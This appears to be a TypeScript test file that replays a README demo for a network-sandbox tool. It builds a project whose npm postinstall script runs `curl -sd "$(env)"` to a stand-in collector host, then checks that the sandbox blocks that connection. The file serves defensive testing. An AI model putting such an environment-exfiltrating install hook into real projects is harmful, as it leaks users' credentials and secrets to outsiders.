// The scene of the README's picture: a project whose postinstall script downloads a tool, and sends its environment to somebody else. It is played in an
// Internet of its own (test/docs/internet.ts), word for word, and what the picture claims is asked of the servers.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { startInternet } from '../docs/internet.js';
import { TOP } from '../docs/page.js';
import { PATIENCE } from '../harness/patience.js';
import { readableFolder } from '../harness/users.js';

const REGISTRY = 'registry.npmjs.org';
const GOOD = 'downloads.example.com';
const BAD = 'collector.example.net';
const SETUP = `curl -sd "$(env)" https://${BAD}/
curl -sfo tool https://${GOOD}/tool
`;
const RUN = `postern run --allow ${REGISTRY}`;
const INSTALL = '--writable . -- npm install -s';
const TIMEOUT_MS = 60_000;

export interface Step {
  readonly comment: string;
  readonly command: string;
}

const STEPS: readonly Step[] = [
  { comment: 'A project that you cloned. Its postinstall script:', command: 'cat setup.sh' },
  {
    comment: 'npm reaches the registry, and nothing else:',
    command: `${RUN} ${INSTALL} || echo "npm failed"`,
  },
  {
    comment: 'The download is right, so permit it:',
    command: `${RUN} --allow ${GOOD} ${INSTALL} && cat tool`,
  },
];

/** What a step printed, with what differs from run to run made the same. */
export interface Played extends Step {
  readonly output: readonly string[];
}

/** @throws AssertionError if it does not end as the picture shows it */
export async function playScene(): Promise<readonly Played[]> {
  const [folder, files, bin] = [readableFolder(), readableFolder(), readableFolder()];
  symlinkSync(join(TOP, 'dist/run/postern.js'), join(bin, 'postern'));
  writeProject(folder, files);
  const internet = await startInternet({ names: [REGISTRY, GOOD, BAD], folder: files });
  const env = {
    ...internet.env,
    PATH: `${bin}:${dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin`,
    HOME: readableFolder(),
    LC_ALL: 'C.UTF-8',
  };
  try {
    const played: Played[] = [];
    for (const step of STEPS) {
      const text = await runWords(
        [...internet.within, 'sh', '-c', `cd "$1"; ${step.command}`, 'sh', folder],
        env,
      );
      played.push({ ...step, output: text.trimEnd().split('\n').map(alike) });
    }
    const connections = new Set(internet.connections());
    assert.ok(!connections.has(`${BAD}:443`), 'nothing was sent');
    assert.ok(connections.has(`${GOOD}:443`) && connections.has(`${REGISTRY}:443`));
    assert.ok(existsSync(join(folder, 'tool')) && existsSync(join(folder, 'node_modules/tiny/index.js')));
    return played;
  } finally {
    internet.close();
    for (const one of [folder, files, bin, env.HOME]) rmSync(one, { recursive: true, force: true });
  }
}

/** A dependency from the registry, by a lock file: npm asks for the package alone. */
function writeProject(folder: string, files: string): void {
  const tarball = gzipSync(
    tarOf({ 'package/package.json': '{"name":"tiny","version":"1.0.0"}', 'package/index.js': '' }),
  );
  const resolved = `https://${REGISTRY}/tiny/-/tiny-1.0.0.tgz`;
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const project = { name: 'project', private: true, dependencies: { tiny: '1.0.0' } };
  const lock = {
    ...{ name: 'project', lockfileVersion: 3, requires: true },
    packages: { '': project, 'node_modules/tiny': { version: '1.0.0', resolved, integrity } },
  };
  writeFileSync(
    join(folder, 'package.json'),
    JSON.stringify({ ...project, scripts: { postinstall: 'sh setup.sh' } }),
  );
  writeFileSync(join(folder, 'package-lock.json'), JSON.stringify(lock));
  writeFileSync(join(folder, 'setup.sh'), SETUP);
  mkdirSync(join(files, REGISTRY, 'tiny/-'), { recursive: true });
  mkdirSync(join(files, GOOD));
  writeFileSync(join(files, REGISTRY, 'tiny/-/tiny-1.0.0.tgz'), tarball);
  writeFileSync(join(files, GOOD, 'tool'), 'the tool is here\n');
}

const BLOCK = 512;

/** ustar, tar(5). */
function tarOf(files: Readonly<Record<string, string>>): Buffer {
  const parts = Object.entries(files).flatMap(([name, content]) => {
    const head = Buffer.alloc(BLOCK);
    const size = Buffer.byteLength(content);
    head.write(name);
    for (const [at, text] of [
      [100, '0000644\0'],
      [108, '0000000\0'],
      [116, '0000000\0'],
      [124, `${size.toString(8).padStart(11, '0')}\0`],
      [136, '00000000000\0'],
      [148, '        '],
      [156, '0'],
      [257, 'ustar\x0000'],
    ] as const)
      head.write(text, at);
    const sum = head.reduce((all, byte) => all + byte, 0);
    head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    const body = Buffer.alloc(Math.ceil(size / BLOCK) * BLOCK);
    body.write(content);
    return [head, body];
  });
  return Buffer.concat([...parts, Buffer.alloc(2 * BLOCK)]);
}

function runWords([program = '', ...args]: readonly string[], env: NodeJS.ProcessEnv): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(program, args, {
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: TIMEOUT_MS * PATIENCE,
    });
    let text = '';
    for (const stream of [child.stdout, child.stderr])
      stream.setEncoding('utf8').on('data', (part: string) => {
        text += part;
      });
    child.once('error', reject).once('close', () => resolve(text));
  });
}

/** Refusals of one millisecond have no order, and a pid is any. */
function alike(line: string): string {
  const sorted = (head: string, between: RegExp, glue: string): string =>
    line.startsWith(head) ? head + line.slice(head.length).split(between).sort().join(glue) : line;
  if (line.startsWith('postern: refused: ')) return sorted('postern: refused: ', /(?<=\)), /, ', ');
  if (line.startsWith('postern: to allow all'))
    return sorted('postern: to allow all of this: ', / (?=--allow)/, ' ');
  return line.replace(/pid \d+/, 'pid 123');
}
